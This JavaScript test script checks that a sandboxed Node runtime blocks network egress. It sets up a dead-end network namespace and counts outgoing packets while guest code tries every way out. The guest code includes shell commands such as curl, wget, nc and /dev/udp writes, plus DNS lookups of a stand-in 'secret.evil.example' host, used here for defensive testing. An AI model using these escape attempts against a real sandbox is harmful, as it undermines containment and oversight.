// Run in a network namespace of its own, with an interface that leads nowhere. Prints how many packets left while a guest
// tried every way out that it has: once without a grant, and once with one, which shows that packets would be counted.
import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { NodeRuntime } from "../../dist/index.js";

const ip = (...args) => execFileSync("ip", args);
ip("link", "set", "lo", "up");
ip("link", "add", "out0", "type", "veth", "peer", "name", "out1");
// Of its own accord IPv6 sends to its neighbours.
for (const name of ["out0", "out1"]) writeFileSync(`/proc/sys/net/ipv6/conf/${name}/disable_ipv6`, "1");
ip("addr", "add", "198.51.100.1/24", "dev", "out0");
ip("link", "set", "out1", "up");
ip("link", "set", "out0", "up");
ip("neigh", "add", "198.51.100.2", "lladdr", "02:00:00:00:00:01", "dev", "out0");
ip("route", "add", "default", "via", "198.51.100.2", "dev", "out0");

/** Packets and bytes that the interfaces sent, and what the protocols handed to them. */
function counters() {
  const sent = {};
  for (const line of readFileSync("/proc/net/dev", "utf8").split("\n").slice(2)) {
    const [name, numbers] = line.split(":");
    if (numbers !== undefined) sent[name.trim()] = Number(numbers.trim().split(/\s+/)[9]);
  }
  const snmp = readFileSync("/proc/net/snmp", "utf8").split("\n");
  for (const [protocol, field] of [["Ip", "OutRequests"], ["Tcp", "OutSegs"], ["Tcp", "ActiveOpens"], ["Udp", "OutDatagrams"], ["Icmp", "OutMsgs"]]) {
    const [names, values] = snmp.filter((line) => line.startsWith(`${protocol}:`)).map((line) => line.split(" "));
    sent[`${protocol}${field}`] = Number(values[names.indexOf(field)]);
  }
  const snmp6 = readFileSync("/proc/net/snmp6", "utf8");
  sent.Udp6OutDatagrams = Number(/^Udp6OutDatagrams\s+(\d+)/m.exec(snmp6)?.[1] ?? 0);
  return sent;
}

const EVERYTHING = `
  const hosts = ["8.8.8.8", "198.51.100.7", "2606:4700::1111", "169.254.169.254", "::ffff:8.8.8.8", "198.51.100.2", "example.com", "secret.evil.example"];
  const tried = [];
  const attempt = (name, run) => {
    tried.push(new Promise((resolve) => {
      setTimeout(resolve, 3000).unref();
      try { run(resolve); } catch { resolve(); }
    }));
  };
  const settle = (promise, resolve) => promise.then(resolve, resolve);
  const silent = (emitter, done) => { emitter.on("error", done); emitter.on("close", done); return emitter; };
  for (const host of hosts) {
    const url = host.includes(":") ? "[" + host + "]" : host;
    for (const port of [53, 80, 443]) attempt("net", (done) => silent(require("node:net").connect(port, host), done));
    attempt("tls", (done) => silent(require("node:tls").connect(443, host), done));
    attempt("http", (done) => silent(require("node:http").get("http://" + url + "/"), done));
    attempt("https", (done) => silent(require("node:https").get("https://" + url + "/"), done));
    attempt("http2", (done) => silent(require("node:http2").connect("http://" + url + "/"), done));
    attempt("fetch", (done) => settle(fetch("http://" + url + "/"), done));
    attempt("fetch of https", (done) => settle(fetch("https://" + url + "/"), done));
    attempt("WebSocket", (done) => { const socket = new WebSocket("ws://" + url + "/"); socket.onerror = socket.onclose = done; });
    attempt("EventSource", (done) => { const source = new EventSource("http://" + url + "/"); source.onerror = () => { source.close(); done(); }; });
    for (const type of ["udp4", "udp6"]) {
      attempt("dgram", (done) => { const socket = silent(require("node:dgram").createSocket(type), done); socket.send("x", 53, host, () => socket.close()); });
      attempt("connected dgram", (done) => { const socket = silent(require("node:dgram").createSocket(type), done); socket.connect(53, host, (error) => { if (error === undefined) socket.send("x"); socket.close(); }); });
    }
    attempt("own lookup", (done) => silent(require("node:http").get({ host: "x.test", lookup: (_name, _options, found) => setImmediate(found, null, [{ address: host, family: host.includes(":") ? 6 : 4 }]) }), done));
    attempt("import", (done) => settle(import("http://" + url + "/x.mjs"), done));
  }
  attempt("multicast", (done) => { const socket = silent(require("node:dgram").createSocket("udp4"), done); socket.bind(() => { socket.setBroadcast(true); socket.addMembership("224.0.0.251"); socket.send("x", 5353, "224.0.0.251", () => socket.send("x", 9, "255.255.255.255", () => socket.close())); }); });
  const dns = require("node:dns");
  for (const name of ["lookup", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTlsa", "resolveTxt"]) {
    if (dns[name] !== undefined) attempt(name, (done) => dns[name]("secret.evil.example", done));
  }
  attempt("reverse", (done) => dns.reverse("8.8.8.8", done));
  attempt("lookupService", (done) => dns.lookupService("8.8.8.8", 53, done));
  for (const server of ["8.8.8.8", "198.51.100.2", "[2606:4700::1111]:53"]) {
    attempt("Resolver", (done) => { const resolver = new dns.Resolver({ timeout: 200, tries: 1 }); resolver.setServers([server]); resolver.resolve4("secret.evil.example", done); });
  }
  const inner = 'fetch("http://8.8.8.8/").catch(() => {}); require("dgram").createSocket("udp4").send("x", 53, "8.8.8.8", function () { this.close(); });';
  attempt("child", (done) => silent(require("node:child_process").spawn(process.execPath, ["-e", inner], { stdio: "ignore" }), done));
  for (const command of ["curl http://8.8.8.8/", "wget http://8.8.8.8/", "ping -c 1 8.8.8.8", "nc 8.8.8.8 53", "echo x > /dev/udp/8.8.8.8/53"]) {
    attempt(command, (done) => require("node:child_process").exec(command, { timeout: 2000 }, done));
  }
  attempt("worker", (done) => silent(new (require("node:worker_threads").Worker)(inner, { eval: true }), done));
  Promise.all(tried).then(() => { console.log("tried", tried.length); process.exit(); });
`;

/** What was sent while a guest tried everything. */
async function measure(options) {
  const runtime = await NodeRuntime.create({ timingMitigation: "off", memoryLimit: 512, ...options });
  const before = counters();
  const { stdout, stderr, code } = await runtime.exec(EVERYTHING, { wallTimeLimitMs: 60_000 });
  await runtime.dispose();
  const after = counters();
  const sent = Object.fromEntries(Object.entries(after).map(([name, count]) => [name, count - before[name]]));
  return { tried: Number(/tried (\d+)/.exec(stdout)?.[1] ?? 0), code, stderr: stderr.slice(0, 500), sent };
}

const denied = [];
for (const permissions of [{}, { network: "deny" }, { network: { rules: [] } }, { network: () => false }]) {
  denied.push(await measure({ permissions }));
}
const allowed = await measure({ permissions: { network: "allow" } });
console.log(JSON.stringify({ denied, allowed }));
